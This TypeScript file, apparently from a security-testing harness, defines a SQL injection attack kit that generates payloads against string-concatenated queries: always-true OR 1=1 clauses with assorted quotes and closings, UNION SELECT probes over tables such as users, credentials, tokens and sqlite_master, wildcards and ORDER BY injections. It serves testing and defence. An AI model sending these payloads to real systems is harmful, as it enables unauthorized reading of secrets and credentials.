import type { AttackKit } from './kit.ts';
import { markerEffect } from './marker-effect.ts';

const QUOTES = ["'", '"', '`', ''];
const CLOSINGS = ['', ')', '%', "%'", '))'];
const COLUMNS = 6;
const STEMS = 3;

/** Statements in place of values (CWE-89): always true, comment, union over up to 6 columns of usual tables, wildcard, ordering. */
export const sqlInjection: AttackKit = {
  covers: ['sql-concatenation'],
  effect: markerEffect,
  attempts({ benign }) {
    const stems = [...new Set(['', 'x', ...benign])].slice(0, STEMS);
    const always = QUOTES.flatMap((quote) =>
      CLOSINGS.flatMap((closing) =>
        ['OR 1=1', 'OR 1=1 --', 'OR 1=1 /*', `OR ${quote}1${quote}=${quote}1`].map(
          (clause) => `${quote}${closing} ${clause}`,
        ),
      ),
    );
    const unions = ['', "'", '"', "%'", "')"].flatMap((quote) =>
      [
        'secrets',
        'secret',
        'documents',
        'users',
        'accounts',
        'tokens',
        'vault',
        'private',
        'credentials',
        'sqlite_master',
      ].flatMap((table) =>
        Array.from(
          { length: COLUMNS },
          (_, count) =>
            `${quote} UNION SELECT ${['*', ...Array.from({ length: count }, () => 'NULL')].join(', ')} FROM ${table} --`,
        ),
      ),
    );
    const wildcards = ['%', '_%', '%%', '*'];
    const orderings = [
      'id; --',
      '1',
      '(SELECT 1)',
      'id) --',
      'secret',
      'password',
      'token',
      'name DESC',
      'CASE WHEN 1=1 THEN name ELSE id END',
    ];
    const requests = [
      ...stems.flatMap((stem) => always.map((clause) => stem + clause)),
      ...unions,
      ...wildcards,
      ...orderings,
    ];
    return [...new Set(requests)].map((request) => ({ requests: [request] }));
  },
};
